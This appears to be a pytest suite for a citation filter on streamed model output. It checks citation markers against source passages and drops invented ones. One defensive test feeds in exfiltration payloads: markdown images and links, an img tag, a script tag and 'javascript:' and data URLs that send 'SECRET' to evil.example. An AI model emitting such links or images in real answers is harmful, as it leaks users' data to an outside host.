"""The citation contract: what a model writes, in pieces of any size, against the passages it was given."""

from __future__ import annotations

import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from functions.query.citing import CitationFilter
from shared.core.models import Passage

BRIDGE = "The bridge was opened in 1932 by the mayor. It is 410 metres long and carries two railway tracks."
FERRY = "Until then a ferry crossed the sound every half hour."


def passage(text: str, number: int) -> Passage:
    return Passage(
        chunk_id=number, document_id=uuid.UUID(int=number), generation=1, uri=f"s3://b/{number}", text=text,
        page=number, headings=(), start=1000 * number, score=0.5, dense=0.5, lexical=0.5,
    )  # fmt: skip


PASSAGES = [passage(BRIDGE, 1), passage(FERRY, 2)]


def shown(text: str, size: int = 1) -> tuple[str, CitationFilter]:
    checked = CitationFilter(PASSAGES)
    pieces = [checked.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join(pieces) + checked.finish(), checked


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_marker_survives_however_it_is_split(size: int) -> None:
    text, checked = shown("The bridge was opened in 1932 [1]. A ferry crossed before [2].", size)
    assert text == "The bridge was opened in 1932 [1]. A ferry crossed before [2]."
    assert [(c.marker, c.page) for c in checked.citations] == [(1, 1), (2, 2)]


def test_a_citation_quotes_its_passage_to_the_character() -> None:
    _, checked = shown("It opened in 1932 [1].")
    (citation,) = checked.citations
    assert citation.quote == "The bridge was opened in 1932 by the mayor."
    assert BRIDGE[citation.start - 1000 : citation.end - 1000] == citation.quote


@pytest.mark.parametrize("marker", ["[3]", "[0]", "[99]", "[ 7 ]"])
def test_a_marker_of_no_passage_is_dropped_and_counted(marker: str) -> None:
    text, checked = shown(f"The bridge was opened in 1932 {marker}.")
    assert marker not in text
    assert checked.citations == []
    assert checked.tally.dropped_citations == 1


def test_a_quote_that_is_not_in_the_passage_takes_its_marker_along() -> None:
    text, checked = shown('The mayor said "the bridge is made of pure gold" [1].')
    assert "[1]" not in text
    assert checked.tally.dropped_citations == 1


def test_a_quote_is_found_in_spite_of_case_blanks_and_quotation_marks() -> None:
    _, checked = shown("It “IS  410 metres long” [1].")
    assert checked.citations[0].quote == "is 410 metres long"


def test_a_claim_that_shares_nothing_with_its_passage_is_not_supported_by_it() -> None:
    text, checked = shown("Elephants remember everything forever [2].")
    assert checked.citations == []
    assert text == "Elephants remember everything forever ."


def test_lists_of_markers_are_taken_apart() -> None:
    text, checked = shown("The bridge replaced a ferry that crossed the sound [1, 2].")
    assert "[2]" in text
    assert {c.marker for c in checked.citations} <= {1, 2}


def test_no_citation_twice() -> None:
    _, checked = shown("It opened in 1932 [1]. The bridge was opened in 1932 [1].")
    assert len(checked.citations) == 1


@pytest.mark.parametrize(
    "evil",
    [
        "![x](https://evil.example/?q=SECRET)", "![x][ref]", "[click](https://evil.example/?q=SECRET)",
        "https://evil.example/?q=SECRET", "www.evil.example/SECRET", "<img src='https://evil.example/SECRET'>",
        "<script>SECRET</script>", "javascript:alert(1)", "data:text/html,SECRET", "[ref]: https://evil.example/SECRET",
        "<https://evil.example/SECRET>",
    ],
)  # fmt: skip
@pytest.mark.parametrize("size", [1, 5, 1000])
def test_24_links_images_and_tags_are_taken_out(evil: str, size: int) -> None:
    text, checked = shown(f"Before.\n{evil}\nAfter.", size)
    assert "evil.example" not in text
    assert "<" not in text
    assert "javascript:" not in text
    assert text.startswith("Before.")
    assert text.endswith("After.")
    assert checked.tally.removed_links > 0


@given(st.text(alphabet='ab [](){}!<>"“”1239,.:/htps\n', max_size=80), st.integers(1, 9))
def test_pieces_of_any_size_show_the_same_citations_and_no_address(text: str, size: int) -> None:
    _, whole = shown(text, 1000)
    pieces, parts = shown(text, size)
    assert "](h" not in pieces
    assert {c.marker for c in parts.citations} <= {1, 2}
    assert parts.tally.dropped_citations >= 0
    assert whole.text is not None


def test_nothing_is_held_back_for_ever() -> None:
    checked = CitationFilter(PASSAGES)
    assert checked.feed("[" + "x" * 5000) != ""


def test_text_without_blanks_streams_too() -> None:
    checked = CitationFilter(PASSAGES)
    assert sum(len(checked.feed(character)) > 0 for character in "橋は一九三二年に開通した。" * 5) > 60
